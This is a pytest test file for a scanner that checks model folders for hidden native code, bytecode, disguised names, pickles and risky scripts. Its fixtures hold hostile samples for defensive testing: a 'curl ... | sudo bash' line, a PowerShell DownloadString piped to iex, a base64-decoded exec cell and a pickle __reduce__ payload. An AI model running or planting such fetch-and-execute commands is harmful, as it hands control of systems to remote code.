"""Native code, bytecode, scripts, names, texts and media, as a scan of a folder finds them."""

from __future__ import annotations

import importlib.util
import io
import json
import pickle
import struct
import sys
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from credenza.artifact import Held
from credenza.findings import Finding, Severity
from credenza.scan import RULES, Piece, scan
from credenza.scan.interface import Said

ELF = Path(sys.executable).resolve().read_bytes()[:8192]
PE = (
    b"MZ" + b"\0" * 58 + struct.pack("<I", 128) + b"\0" * 64 + b"PE\0\0" + b"\x64\x86" + b"\0" * 300
)
MACH = b"\xcf\xfa\xed\xfe" + struct.pack("<6I", 0x01000007, 3, 2, 5, 400, 0) + b"\0" * 500
JAVA = b"\xca\xfe\xba\xbe" + struct.pack(">3H", 0, 61, 20) + b"\0" * 100
WASM = b"\0asm\1\0\0\0" + b"\0" * 20
DEX = b"dex\n035\0" + b"\0" * 100
APE = b"MZqFpD='\n" + b"\0" * 100


class Marks:
    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("MARKER", "w")  # the test would see the file


PICKLE = pickle.dumps(Marks())


def seen(tmp_path: Path, name: str, data: bytes) -> list[Finding]:
    at = tmp_path / "model" / name
    at.parent.mkdir(parents=True, exist_ok=True)
    at.write_bytes(data)
    report = scan(tmp_path / "model")
    assert not Path("MARKER").exists()
    return [f for f in report.findings if f.where.file == name]


def rules(findings: list[Finding]) -> set[tuple[str, str, str]]:
    return {(f.rule, f.severity.value, f.found) for f in findings}


NATIVE = [
    ("model.safetensors", ELF, ("scan.native-hidden", "critical", "ELF")),
    ("config.json", PE, ("scan.native-hidden", "critical", "PE")),
    ("pytorch_model.bin", ELF, ("scan.native-hidden", "high", "ELF")),
    ("run", MACH, ("scan.native-hidden", "high", "Mach-O")),
    ("weights.dat", JAVA, ("scan.native-hidden", "high", "Java class")),
    ("weights.pt", WASM, ("scan.native-hidden", "high", "WebAssembly")),
    ("weights.ckpt", DEX, ("scan.native-hidden", "high", "DEX")),
    ("model.gguf", APE, ("scan.native-hidden", "critical", "APE")),
    ("model.llamafile", APE, ("scan.native-code", "medium", "APE")),
    ("op.so", ELF, ("scan.native-code", "medium", "ELF")),
    ("op.so.1.2", ELF, ("scan.native-code", "medium", "ELF")),
    ("op.dll", PE, ("scan.native-code", "medium", "PE")),
    ("op.dll", b"scrambled", ("scan.native-code", "medium", ".dll")),
    ("a.dat", b"\1" * 5000 + ELF + b"\1" * 5000, ("scan.native-hidden", "high", "ELF")),
    ("a.dat", b"\1" * 5000 + PE, ("scan.native-hidden", "high", "PE")),
    ("a.dat", b"\1" * 300_000 + ELF, ("scan.native-hidden", "high", "ELF")),
]


@pytest.mark.parametrize(("name", "data", "expected"), NATIVE)
def test_native_code(
    tmp_path: Path, name: str, data: bytes, expected: tuple[str, str, str]
) -> None:
    assert expected in rules(seen(tmp_path, name, data))


@pytest.mark.parametrize(
    "data",
    [
        b"MZ is how this text begins, and it goes on for a while. " * 4,
        b"\x7fELF is no header by itself" + b"\0" * 100,
        b"\xca\xfe\xba\xbe" * 40,
        np.random.default_rng(1).bytes(400_000) + b"MZ\x7fELF",
        b"",
        b"MZ",
    ],
)
def test_two_letters_are_no_executable(tmp_path: Path, data: bytes) -> None:
    assert not [f for f in seen(tmp_path, "a.dat", data) if f.rule.startswith("scan.native")]


@pytest.mark.parametrize("cut", range(0, 200, 7))
def test_headers_that_break_off_are_no_executable(cut: int) -> None:
    native = next(r for r in RULES if r.name == "native code")
    for data in (ELF, PE, MACH, JAVA):
        piece = Piece(path="a", content=Held("a", data[:cut]), file="a")
        assert isinstance(native.claims(piece), bool)


def pyc(flags: int = 0) -> bytes:
    body = bytes([0xE3]) + b"\0" * 20 + b"\xda\x06system" + b"\xda\x02os"
    return importlib.util.MAGIC_NUMBER + struct.pack("<I", flags) + b"\0" * 8 + body


BYTECODE = [
    ("__pycache__/a.cpython-311.pyc", pyc(), "medium"),
    ("__pycache__/a.cpython-311.pyc", pyc(1), "high"),  # PEP 562: never compared with its source
    ("__pycache__/a.cpython-311.pyc", pyc(3), "medium"),
    ("a.pyc", pyc(), "high"),
    ("weights.bin", pyc(), "high"),
]


@pytest.mark.parametrize(("name", "data", "severity"), BYTECODE)
def test_bytecode(tmp_path: Path, name: str, data: bytes, severity: str) -> None:
    assert ("scan.bytecode", severity, "system") in rules(seen(tmp_path, name, data))


SCRIPTS = [
    ("run.sh", b"#!/bin/sh\necho hello\n", ("scan.script", "medium", "#!/bin/sh")),
    ("run", b"#!/usr/bin/env bash\n", ("scan.script", "medium", "#!/usr/bin/env bash")),
    ("config.json", b"#!/bin/sh\n", ("scan.script", "high", "#!/bin/sh")),
    ("a.bat", b"echo hello", ("scan.script", "medium", ".bat")),
    (
        "a.sh",
        b"curl -s http://example.com/x | sudo bash",
        ("scan.script-fetches", "high", "curl -s http://example.com/x | sudo bash"),
    ),
    (
        "a.ps1",
        b"iex (New-Object Net.WebClient).DownloadString('x') | iex",
        ("scan.script-fetches", "high", "DownloadString('x') | iex"),
    ),
]


@pytest.mark.parametrize(("name", "data", "expected"), SCRIPTS)
def test_scripts(tmp_path: Path, name: str, data: bytes, expected: tuple[str, str, str]) -> None:
    assert expected in rules(seen(tmp_path, name, data))


def zipped() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("a/data.pkl", PICKLE)
    return held.getvalue()


def npy() -> bytes:
    held = io.BytesIO()
    np.save(held, np.zeros(3))
    return held.getvalue()


FALSE = [
    *((f"a{s}", PICKLE, "pickle", "high") for s in (".safetensors", ".npy", ".onnx", ".json")),
    *((f"a{s}", PICKLE, "pickle", "high") for s in (".txt", ".png", ".py", ".gguf", ".h5", ".md")),
    ("a.txt", pickle.dumps(Marks(), 0), "pickle", "high"),
    ("a.json", zipped(), "zip", "high"),
    ("a.npy", zipped(), "zip", "high"),
    ("a.safetensors", zipped(), "zip", "high"),
    ("a.safetensors", b"\x1f\x8b\x08" + b"\0" * 30, "gzip", "medium"),
    ("a.onnx", npy(), "npy", "low"),
]


@pytest.mark.parametrize(("name", "data", "content", "severity"), FALSE)
def test_a_false_name(tmp_path: Path, name: str, data: bytes, content: str, severity: str) -> None:
    assert ("artifact.false-name", severity, content) in rules(seen(tmp_path, name, data))


TRUE = [
    ("a.pt", PICKLE),
    ("a.bin", zipped()),
    ("a.npz", zipped()),
    ("a.keras", zipped()),
    ("a.npy", npy()),
    ("a.txt", b"cat\ndog\nbird\n"),
    ("a.txt", b"N."),
    ("a.json", b'{"a": 1}'),
    ("a.safetensors", struct.pack("<Q", 0x010380) + b"{" + b" " * 0x010380),  # as a pickle begins
    ("a.bin", struct.pack("<Q", 2) + b"{}"),
]


@pytest.mark.parametrize(("name", "data"), TRUE)
def test_a_true_name(tmp_path: Path, name: str, data: bytes) -> None:
    assert not [f for f in seen(tmp_path, name, data) if f.rule == "artifact.false-name"]


@pytest.mark.parametrize("name", ["a.pt.exe", "a.json .exe", "invoice.pdf.lnk", "a      .scr"])
def test_a_name_that_is_made_to_be_misread(tmp_path: Path, name: str) -> None:
    found = [f for f in seen(tmp_path, name, b"x") if f.rule == "scan.name-disguise"]
    assert [f.severity for f in found] == [Severity.HIGH]


def test_a_member_whose_name_turns_the_direction() -> None:
    names = next(r for r in RULES if r.name == "false name")
    piece = Piece(path="a\u202egpj.py", content=Held("a", b"x"), file="a.zip", inside=("a",))
    assert [f.found for f in names.examine(piece) if isinstance(f, Finding)] == ["U+202E"]
    data = Piece(path="a.pt.exe", content=Held("a", b"x"), file="a", said=Said.DATA)
    assert not names.claims(data)


def test_texts_and_media_are_known(tmp_path: Path) -> None:
    for name, data in {
        "README.md": b"# A model",
        "vocab.txt": "één\n".encode(),
        "LICENSE": b"Apache",
        "a.csv": b"a,b\n1,2\n",
        "utf16.txt": "a".encode("utf-16"),
        "a.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 20,
        "a.wav": b"RIFF\0\0\0\0WAVE",
        "a.txt": b"\0\1\2 no text",
        "a.unknown": b"nobody knows this",
    }.items():
        (tmp_path / name).write_bytes(data)
    report = scan(tmp_path)
    formats = {f.path: f.format for f in report.files}
    assert {n for n, f in formats.items() if "text" in f} == {
        *("README.md", "vocab.txt", "LICENSE", "a.csv", "utf16.txt"),
    }
    assert {n for n, f in formats.items() if "media" in f} == {"a.png", "a.wav"}
    assert {n for n, f in formats.items() if not f} == {"a.txt", "a.unknown"}
    assert report.findings == ()


def test_a_pointer_of_git_is_unread(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_text(
        "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"
    )
    report = scan(tmp_path)
    assert any("git lfs pull" in u.why for u in report.unread)


def notebook(*cells: str) -> bytes:
    made = [{"cell_type": "code", "source": c.splitlines(keepends=True)} for c in cells]
    return json.dumps({"cells": made, "nbformat": 4}).encode()


def test_notebooks(tmp_path: Path) -> None:
    honest = notebook("!pip install torch\nimport torch", "%matplotlib inline\nx = 1", "x?")
    assert {f.severity for f in seen(tmp_path, "a.ipynb", honest)} == {Severity.LOW}
    shell = notebook("import subprocess\nsubprocess.run(['ls'])", "%%bash\nls")
    assert {f.severity for f in seen(tmp_path, "a.ipynb", shell)} == {Severity.MEDIUM}
    behind = notebook("!pip install torch; touch here")
    assert {f.severity for f in seen(tmp_path, "a.ipynb", behind)} == {Severity.MEDIUM}
    hidden = notebook("import base64\nexec(base64.b64decode(x))")
    assert {f.severity for f in seen(tmp_path, "a.ipynb", hidden)} == {Severity.CRITICAL}
    (tmp_path / "model" / "a.ipynb").write_bytes(b"{")
    assert any("not a notebook" in u.why for u in scan(tmp_path / "model").unread)


def test_python_without_a_suffix_and_python_of_old(tmp_path: Path) -> None:
    found = seen(tmp_path, "run", b"#!/usr/bin/env python3\nimport os\nos.system('x')\n")
    assert [f.rule for f in found] == ["scan.source-process"]
    (tmp_path / "model" / "old.py").write_bytes(b"print 'hello'\n")
    assert any("Python 2" in u.why for u in scan(tmp_path / "model").unread)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("y = torch.from_file('/etc/hostname', False, 4)", ("high", "aten::from_file")),
        ("torch.save(x, '/tmp/zz')", ("high", "aten::save")),
        ("y = ops.aten.save(x, '/tmp/zz')", ("high", "aten::save")),
        ("y = ops.mine.op(x)", ("medium", "mine::op")),
        ("y = ops.torchvision.nms(x, x, 0.5)", None),
        ("y = torch.add(x, torch.sum(x))", None),
    ],
)
def test_torchscript(line: str, expected: tuple[str, str] | None) -> None:
    text = (
        f"class M(Module):\n  __parameters__ = []\n  training : bool\n"
        f"  def forward(self: __torch__.m.M,\n    x: Tensor) -> Tensor:\n    {line}\n    return x\n"
    )
    path = "m/code/__torch__/m.py"
    piece = Piece(path=path, content=Held(path, text.encode()), file="m.pt", inside=(path,))
    rule = next(r for r in RULES if r.name == "python source")
    found = [(f.severity.value, f.found) for f in rule.examine(piece) if isinstance(f, Finding)]
    assert found == ([expected] if expected else [])
